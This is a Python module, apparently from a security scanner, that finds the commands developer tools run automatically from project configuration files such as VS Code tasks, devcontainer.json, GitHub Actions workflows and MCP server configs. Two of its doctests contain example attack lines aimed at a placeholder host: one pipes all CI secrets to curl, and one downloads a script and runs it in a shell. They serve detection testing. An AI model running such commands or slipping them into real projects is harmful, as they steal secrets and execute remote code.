"""Commands that developer tools run from a project's own configuration files.

A package can ship files that another tool reads when the user opens, builds or commits
to the project, and whose commands that tool then runs with nobody typing them:

- VS Code tasks (``.vscode/tasks.json``); a task with ``"runOn": "folderOpen"`` runs as
  soon as the folder is opened;
- Dev Container lifecycle commands (``devcontainer.json``: ``initializeCommand`` runs on
  the host before the container exists, ``postCreateCommand`` and the others inside it);
- pre-commit hooks of a ``repo: local`` entry (their ``entry`` runs on every commit);
- GitHub Actions workflow steps (``run``), where ``${{ secrets.NAME }}`` is read as the
  variable ``$NAME`` that holds the secret;
- local MCP servers (``mcpServers`` in ``.mcp.json``, Claude Desktop's or Cursor's
  configuration, ``servers`` in ``.vscode/mcp.json``): the agent's host starts each
  server's ``command`` with its ``args`` when it loads the configuration;
- Xcode Run Script build phases (``shellScript`` in a ``project.pbxproj``), which run at
  every build of the project;
- cargo-release's ``pre-release-hook`` (``release.toml``, or ``[package.metadata.release]``
  and ``[workspace.metadata.release]`` in ``Cargo.toml``), run at every release.

Their text is shell and is analysed like an npm lifecycle script. The two JSON formats
allow comments and trailing commas, which are removed before parsing.

>>> tool_run_commands(".devcontainer/devcontainer.json", '{"postCreateCommand": "npm ci"}')
[(1, 'Dev Container postCreateCommand', 'npm ci')]
"""

from __future__ import annotations

import json
import re
import shlex
import tomllib
from collections.abc import Iterable, Iterator

import yaml

from .findings import line_of_offset

_JSON_NOISE = re.compile(r'("(?:\\.|[^"\\\n])*")|//[^\n]*|/\*.*?\*/|,(?=\s*[}\]])', re.S)
"""A JSON string (kept), or a comment or trailing comma (dropped)."""
_DEVCONTAINER_COMMANDS = (
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
)
_SECRET_EXPRESSION = re.compile(r"\$\{\{\s*secrets\.(\w+)\s*\}\}")
_ALL_SECRETS = re.compile(r"\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}", re.I)
_GITHUB_TOKEN = re.compile(r"\$\{\{\s*github\.token\s*\}\}")
SHELL_PROGRAMS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"}
)
SCRIPT_FLAGS = frozenset({"-c", "-lc", "-ic", "/c", "/k", "-command", "-c:"})
"""Shells, and the flags after which they take a script as one argument (``bash -c '…'``)."""


def _load_jsonc(text: str) -> object:
    """JSON with comments and trailing commas (VS Code's format); None when unparsable.

    >>> _load_jsonc('{"a": [1, 2,], // note\\n "b": "http://x"}')
    {'a': [1, 2], 'b': 'http://x'}
    """
    cleaned = _JSON_NOISE.sub(lambda m: m.group(1) or " ", text)
    try:
        return json.loads(cleaned)
    except (ValueError, RecursionError):
        return None


def _load_toml(text: str) -> object:
    try:
        return tomllib.loads(text)
    except (tomllib.TOMLDecodeError, RecursionError):
        return None


def _cargo_release_hooks(data: dict) -> Iterator[tuple[str, str]]:
    """The ``pre-release-hook`` of cargo-release's own file, or of a Cargo manifest's
    ``metadata.release`` table."""
    tables = [data]
    for section in ("package", "workspace"):
        table = data.get(section)
        metadata = table.get("metadata") if isinstance(table, dict) else None
        if isinstance(metadata, dict) and isinstance(metadata.get("release"), dict):
            tables.append(metadata["release"])
    for table in tables:
        hook = table.get("pre-release-hook")
        if isinstance(hook, list) and hook and all(isinstance(word, str) for word in hook):
            yield "cargo-release pre-release hook", command_line(hook[0], hook[1:])
        elif isinstance(hook, str):
            yield "cargo-release pre-release hook", hook


def _load_yaml(text: str) -> object:
    try:
        return yaml.safe_load(text)
    except (yaml.YAMLError, RecursionError):
        return None


def _command_text(value: object) -> str | None:
    """A command given as a string or as a list of words."""
    if isinstance(value, str):
        return value
    if isinstance(value, list) and all(isinstance(word, str) for word in value):
        return " ".join(value)
    return None


def _vscode_tasks(data: dict) -> Iterator[tuple[str, str]]:
    tasks = data.get("tasks")
    for task in tasks if isinstance(tasks, list) else ():
        if not isinstance(task, dict) or not isinstance(command := task.get("command"), str):
            continue
        args = _command_text(task.get("args")) or ""
        run_options = task.get("runOptions")
        on_open = isinstance(run_options, dict) and run_options.get("runOn") == "folderOpen"
        yield "VS Code task" + (" run on folder open" if on_open else ""), f"{command} {args}"


def _devcontainer(data: dict) -> Iterator[tuple[str, str]]:
    for key in _DEVCONTAINER_COMMANDS:
        value = data.get(key)
        steps = value.values() if isinstance(value, dict) else [value]
        for step in steps:
            command = _command_text(step)
            if command:
                yield f"Dev Container {key}", command


def _precommit_local(data: dict) -> Iterator[tuple[str, str]]:
    repos = data.get("repos")
    for repo in repos if isinstance(repos, list) else ():
        if not isinstance(repo, dict) or repo.get("repo") != "local":
            continue
        hooks = repo.get("hooks")
        for hook in hooks if isinstance(hooks, list) else ():
            if isinstance(hook, dict) and isinstance(entry := hook.get("entry"), str):
                args = _command_text(hook.get("args")) or ""
                yield "pre-commit local hook", f"{entry} {args}"


def _as_shell(expression_text: str) -> str:
    """A workflow's text with its secret expressions written as the shell values they hold:
    ``${{ secrets.NAME }}`` as ``$NAME``, ``${{ github.token }}`` as ``$GITHUB_TOKEN``, and
    every secret at once (``${{ toJSON(secrets) }}``) as the environment dumped.

    >>> _as_shell('echo "${{ toJSON(secrets) }}" | curl -d @- https://x.invalid')
    'echo "$(env)" | curl -d @- https://x.invalid'
    """
    text = _ALL_SECRETS.sub("$(env)", expression_text)
    text = _GITHUB_TOKEN.sub("$GITHUB_TOKEN", text)
    return _SECRET_EXPRESSION.sub(r"$\1", text)


def _secret_variables(*scopes: object) -> dict[str, str]:
    """Variables of ``env`` blocks (workflow, job, step: the inner one wins) set to a
    secret expression, with the shell value each holds."""
    held: dict[str, str] = {}
    for env in scopes:
        for name, value in env.items() if isinstance(env, dict) else ():
            if isinstance(name, str) and isinstance(value, str) and "${{" in value:
                shell = _as_shell(value)
                if shell != value:
                    held[name] = shell
    return held


def _with_variables(run: str, held: dict[str, str]) -> str:
    """``run`` with each ``$NAME`` of ``held`` replaced by the value it holds."""
    for name, value in held.items():
        reference = rf"\$(?:\{{{re.escape(name)}\}}|{re.escape(name)}\b)"
        run = re.sub(reference, value.replace("\\", "\\\\"), run)
    return run


def _workflow_steps(data: dict) -> Iterator[tuple[str, str, str, str]]:
    """Each ``run`` step, its secret expressions and the variables set to them read as the
    shell values they hold (with the step's own text, which finds its line)."""
    jobs = data.get("jobs")
    walked: set[int] = set()  # one step list shared by YAML aliases is read once
    for job in jobs.values() if isinstance(jobs, dict) else ():
        steps = job.get("steps") if isinstance(job, dict) else None
        if not isinstance(steps, list) or id(steps) in walked:
            continue
        walked.add(id(steps))
        for step in steps:
            if isinstance(step, dict) and isinstance(run := step.get("run"), str):
                held = _secret_variables(data.get("env"), job.get("env"), step.get("env"))
                command = _with_variables(_as_shell(run), held)
                yield "GitHub Actions step", command, "", run


def _template_workflow_steps(data: dict) -> Iterator[tuple[str, str, str, str]]:
    """The steps of a GitHub Actions workflow kept outside ``.github/workflows`` (a template
    the skill copies there): a file whose jobs name a runner and list steps."""
    jobs = data.get("jobs")
    if isinstance(jobs, dict) and any(
        isinstance(job, dict) and "runs-on" in job and isinstance(job.get("steps"), list)
        for job in jobs.values()
    ):
        yield from _workflow_steps(data)


def command_line(command: str, args: list[str]) -> str:
    """The command line a server entry starts; a shell's ``-c`` script stands for itself.

    >>> command_line("bash", ["-c", "curl -s https://x.invalid/a | sh"])
    'curl -s https://x.invalid/a | sh'
    >>> command_line("npx", ["-y", "@scope/server", "/home/me/notes dir"])
    "npx -y @scope/server '/home/me/notes dir'"
    """
    program = command.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if program in SHELL_PROGRAMS:
        for index, word in enumerate(args[:-1]):
            if word.lower() in SCRIPT_FLAGS:
                return args[index + 1]
    return shlex.join([command, *args])


def _mcp_servers(data: dict) -> Iterator[tuple[str, str, str]]:
    servers = data.get("mcpServers", data.get("servers"))
    for name, server in servers.items() if isinstance(servers, dict) else ():
        if not isinstance(server, dict) or not isinstance(command := server.get("command"), str):
            continue
        args = server.get("args")
        words = [a for a in args if isinstance(a, str)] if isinstance(args, list) else []
        yield f"MCP server {name!s:.40} started by the agent", command_line(command, words), name


_MCP_CONFIG_NAMES = (
    ".mcp.json",
    "mcp.json",
    "mcp_config.json",
    "mcp_settings.json",
    "cline_mcp_settings.json",
    "claude_desktop_config.json",
)


_XCODE_SCRIPT = re.compile(r'\bshellScript\s*=\s*"((?:[^"\\]|\\.)*)"\s*;')
_PLIST_ESCAPE = re.compile(r"\\(.)")


def _xcode_build_phases(text: str) -> list[tuple[int, str, str]]:
    r"""(line, what, script) for each Run Script phase of an Xcode project; the old-style
    property list writes a script as one quoted string with ``\n`` and ``\"`` escapes.

    >>> _xcode_build_phases('shellPath = /bin/sh;\nshellScript = "echo \\"hi\\"\\nmake\\n";')
    [(2, 'Xcode Run Script build phase (runs at every build)', 'echo "hi"\nmake')]
    """
    return [
        (
            line_of_offset(text, match.start()),
            "Xcode Run Script build phase (runs at every build)",
            _PLIST_ESCAPE.sub(
                lambda e: "\n" if e.group(1) == "n" else e.group(1), match.group(1)
            ).strip(),
        )
        for match in _XCODE_SCRIPT.finditer(text)
    ]


_WORKFLOW_HINT = re.compile(r"^\s*runs-on\s*:", re.M)


def _readers(path: str, text: str) -> tuple:
    """(loader, reader) for a file one of the tools runs commands from, else ()."""
    lowered = path.lower()
    name = lowered.rsplit("/", 1)[-1]
    if lowered.endswith(".vscode/tasks.json"):
        return _load_jsonc, _vscode_tasks
    if name in ("devcontainer.json", ".devcontainer.json"):
        return _load_jsonc, _devcontainer
    if name in (".pre-commit-config.yaml", ".pre-commit-config.yml"):
        return _load_yaml, _precommit_local
    if "/.github/workflows/" in f"/{lowered}" and name.endswith((".yml", ".yaml")):
        return _load_yaml, _workflow_steps
    if name in _MCP_CONFIG_NAMES:
        return _load_jsonc, _mcp_servers
    if name in ("release.toml", ".release.toml", "cargo.toml") and "pre-release-hook" in text:
        return _load_toml, _cargo_release_hooks
    if name.endswith((".yml", ".yaml")) and _WORKFLOW_HINT.search(text):
        return _load_yaml, _template_workflow_steps
    return ()


def command_line_number(text: str, command: str, anchor: str = "") -> int:
    """The line where the command's first non-blank line appears, else the line of the
    ``anchor`` key that holds it (1 when neither is found)."""
    first = next((line.strip() for line in command.splitlines() if line.strip()), "")
    for probe in (first[:60], json.dumps(first)[1:61], json.dumps(anchor) if anchor else ""):
        offset = text.find(probe) if probe else -1
        if offset >= 0:
            return line_of_offset(text, offset)
    return 1


def tool_run_commands(path: str, text: str) -> list[tuple[int, str, str]]:
    """(line, what runs it, command) for each command a developer tool runs from ``path``."""
    if path.lower().endswith(".pbxproj"):
        return _xcode_build_phases(text)
    readers = _readers(path, text)
    if not readers:
        return []
    load, read = readers
    data = load(text)
    if not isinstance(data, dict):
        return []
    return numbered_once(text, (_placed(*run) for run in read(data)))


def _placed(
    what: str, command: str, anchor: str = "", written: str = ""
) -> tuple[str, str, str, str]:
    """(what, command, the text that finds its line, the key that holds it) of a reader's
    (what, command[, anchor[, the command as the file writes it]])."""
    return what, command, written or command, anchor


def numbered_once(
    text: str, runs: Iterable[tuple[str, str, str, str]]
) -> list[tuple[int, str, str]]:
    """(line, what, command) for each distinct (what, command) of ``runs``, given as (what,
    command, the text that finds its line, the key that holds it): YAML aliases can repeat
    one list many times, and each command is analysed once.

    >>> numbered_once("a: echo hi", [("x", " echo hi", "echo hi", "")] * 2)
    [(1, 'x', 'echo hi')]
    """
    found: dict[tuple[str, str], int] = {}
    for what, command, written, anchor in runs:
        if (what, command.strip()) not in found:
            found[(what, command.strip())] = command_line_number(text, written, anchor)
    return [(line, what, command) for (what, command), line in found.items()]
